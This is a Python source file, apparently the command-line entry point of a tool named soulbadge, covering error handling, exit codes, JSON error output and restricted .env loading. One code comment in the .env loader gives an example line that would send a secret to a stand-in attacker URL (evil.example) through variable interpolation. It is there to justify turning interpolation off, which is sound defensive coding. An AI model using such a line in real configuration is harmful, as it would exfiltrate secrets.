"""Running a command: `.env` before it, and whatever ends it as one line and an exit code."""

import io
import json
import os
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import click

from ._app import app
from .command import JSON, NAME, variable
from .output import note, plain, wants_json

DONE, REFUSED, USAGE, INTERRUPTED = 0, 1, 2, 130


def run(arguments: Sequence[str] | None = None) -> int:
    """What `main` does."""
    given = list(sys.argv[1:] if arguments is None else arguments)
    _open_streams()
    try:
        return _guarded(given)
    except BrokenPipeError:  # whoever read us has gone, as `head` does
        _mute()
        return REFUSED


def _open_streams() -> None:
    """Somewhere to write to, whatever the process was given, and names in any script on any terminal."""
    for name in ("stdout", "stderr"):
        if getattr(sys, name) is None:  # it was closed
            setattr(sys, name, io.StringIO())
        stream = getattr(sys, name)
        if hasattr(stream, "reconfigure"):
            stream.reconfigure(errors="backslashreplace")


def _mute() -> None:
    """Let nothing more be written to stdout: Python would complain once more when it closes it."""
    os.dup2(os.open(os.devnull, os.O_WRONLY), 1)


def _guarded(given: list[str]) -> int:
    try:
        _load_dotenv()
        JSON.set("--json" in given or os.environ.get(variable("--json"), "") not in ("", "0"))  # until it is parsed
        code = app.main(given or ["--help"], prog_name=NAME, standalone_mode=False)
    except BrokenPipeError:
        raise
    except (KeyboardInterrupt, click.Abort):  # click makes one of the other
        _refuse("Interrupted", "interrupted; what was sent before stands")
        return INTERRUPTED
    except click.UsageError as error:
        where = f" (see `{error.ctx.command_path} --help`)" if error.ctx else ""
        _refuse("UsageError", error.format_message() + where)
        return USAGE
    except click.ClickException as error:
        _refuse(type(error).__name__, error.format_message())
        return REFUSED
    except Exception as error:  # noqa: BLE001 (what is not a refusal is raised again)
        return _refused(error)
    else:
        return code if isinstance(code, int) else DONE  # an exit asked for, or what a command happened to return


def _refused(error: Exception) -> int:
    """The library's own refusals, and files that cannot be used; everything else is a fault of ours, to be seen."""
    from soulbadge.errors import SoulbadgeError

    if isinstance(error, SoulbadgeError):
        values: dict[str, Any] = getattr(error, "values", dict)()
        _refuse(type(error).__name__, *_lines(error), **values)
    elif isinstance(error, OSError) and error.strerror:
        if error.filename is None:  # what we print cannot be written: a disk is full
            _mute()
        _refuse("FileError", f"{error.filename or 'the output'}: {error.strerror}")
    else:
        raise error
    return REFUSED


def _lines(error: Exception) -> list[str]:
    """One line; several where an error is a list of problems, which says so by having them."""
    return str(error).splitlines() if hasattr(error, "problems") else [str(error)]


def _refuse(name: str, *lines: str, **values: Any) -> None:  # noqa: ANN401 (an error's values)
    first, *others = lines or ("",)
    note(f"error: {first}")
    for line in others:
        note(line)
    if wants_json():
        found = {"name": name, "message": "\n".join(lines), "values": plain(values)}
        sys.stdout.write(json.dumps({"error": found}, indent=2) + "\n")
        sys.stdout.flush()


def _load_dotenv() -> None:
    """SOULBADGE_ variables of `.env` in the working directory, where the environment does not have them.

    No other variables, and no other folder: a file that somebody else put there must not turn Python, proxies or
    libraries into something else.
    """
    file = Path(".env")
    if not file.is_file():
        return
    from dotenv import dotenv_values

    from soulbadge.forms.files import too_open

    # Not interpolated: SOULBADGE_RPC_URL=https://evil.example/${SECRET} would carry the secret away.
    try:
        found = dotenv_values(file, interpolate=False)
    except UnicodeDecodeError as error:
        raise click.ClickException(f"{file}: is no text in UTF-8; save it as UTF-8, or move it away") from error
    ours = {name: value for name, value in found.items() if name.startswith("SOULBADGE_") and value is not None}
    for name, value in ours.items():
        if "\0" in name + value:
            raise click.ClickException(f"{file}: a byte 0 stands in {name!r}; write the line again")
        os.environ.setdefault(name, value)
    if any(ours.values()) and (problem := too_open(file)):
        note(f"warning: {problem}")
